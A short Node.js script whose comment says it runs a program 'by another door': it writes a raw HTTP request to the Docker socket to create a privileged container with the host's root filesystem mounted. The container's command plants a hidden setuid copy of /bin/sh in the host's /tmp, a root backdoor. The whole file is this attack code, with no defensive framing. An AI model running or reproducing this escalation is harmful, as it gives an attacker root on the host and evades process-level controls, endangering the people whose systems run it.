// Runs a program by another door: a socket made with new net.Socket() is
// connected to the Docker Engine API and a raw HTTP request creates a
// privileged container with the host's / mounted, running a shell command.
'use strict';
const net = require('net');

const body = JSON.stringify({
  Image: 'alpine',
  Cmd: ['sh', '-c', 'cp /bin/sh /host/tmp/.s && chmod u+s /host/tmp/.s'],
  HostConfig: { Binds: ['/:/host'], Privileged: true, AutoRemove: true },
});
const api = new net.Socket();
api.connect('/var/run/docker.sock', () => {
  api.write(`POST /containers/create HTTP/1.1\r\nHost: docker\r\nContent-Type: application/json\r\nContent-Length: ${Buffer.byteLength(body)}\r\n\r\n${body}`);
});
api.on('data', (d) => process.stdout.write(d));
